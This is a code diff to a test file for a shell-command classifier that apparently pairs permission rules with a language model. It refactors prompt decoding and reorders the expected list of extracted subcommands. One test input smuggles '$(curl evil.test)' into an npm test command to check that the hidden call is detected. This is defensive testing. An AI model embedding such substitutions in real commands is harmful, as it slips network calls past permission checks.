@@ -27,6 +27,11 @@ const Question = Schema.Struct({
 
 type Question = typeof Question.Type
 
+const decodeQuestion = (content: unknown) =>
+  Schema.decodeUnknownEffect(Schema.Array(Schema.Struct({ text: Schema.fromJsonString(Question) })))(content).pipe(
+    Effect.map(([part]) => part?.text ?? { descriptions: [], commands: [] })
+  )
+
 type Match = readonly [command: number, description: string, confidence?: "high" | "low"]
 
 interface Model {
@@ -45,9 +50,7 @@ const model = (
     { prompt }: LanguageModel.ProviderOptions
   ): Effect.fn.Return<Array<Response.PartEncoded>, AiError.AiError> {
     const text = JSON.stringify(prompt)
-    const content: unknown = prompt.content.at(-1)?.content
-    const [part] = Schema.decodeUnknownSync(Schema.Array(Schema.Struct({ text: Schema.String })))(content)
-    const question = Schema.decodeUnknownSync(Schema.fromJsonString(Question))(part?.text)
+    const question = yield* Effect.orDie(decodeQuestion(prompt.content.at(-1)?.content))
     prompts.push(text)
     asked.push(question)
     const said = yield* answer(question)
@@ -83,7 +86,10 @@ const texts = {
   }
 }
 
-const judging = (commands: ReadonlyArray<string>, rules: Parameters<typeof RuleSourcesLayers.layerMemory>[0] = { texts }) =>
+const judging = (
+  commands: ReadonlyArray<string>,
+  rules: Parameters<typeof RuleSourcesLayers.layerMemory>[0] = { texts }
+) =>
   Effect.gen(function*() {
     const policy = yield* (yield* RuleSources).policy(context)
     const classifier = yield* Classifier
@@ -132,9 +138,9 @@ describe("the model half of the classifier", () => {
       const fake = matching([0, "run the test suite"])
       assert.isUndefined(yield* judge("timeout 5 npm test $(curl evil.test)", fake))
       assert.deepStrictEqual(fake.asked[0]?.commands.map(({ words }) => words.join(" ")), [
+        "curl evil.test",
         "timeout 5 npm test <unknown>",
-        "npm test <unknown>",
-        "curl evil.test"
+        "npm test <unknown>"
       ])
     }))
 
@@ -214,7 +220,11 @@ describe("the model half of the classifier", () => {
     Effect.gen(function*() {
       const fake = matching()
       yield* judge("npm test", fake)
-      const deniesAll = { texts: { userSettings: { deny: [...texts.userSettings.allow, ...texts.userSettings.ask, ...texts.userSettings.deny] } } }
+      const deniesAll = {
+        texts: {
+          userSettings: { deny: [...texts.userSettings.allow, ...texts.userSettings.ask, ...texts.userSettings.deny] }
+        }
+      }
       yield* judge("npm test", fake, deniesAll)
       assert.strictEqual(fake.prompts[0], fake.prompts[1])
     }))
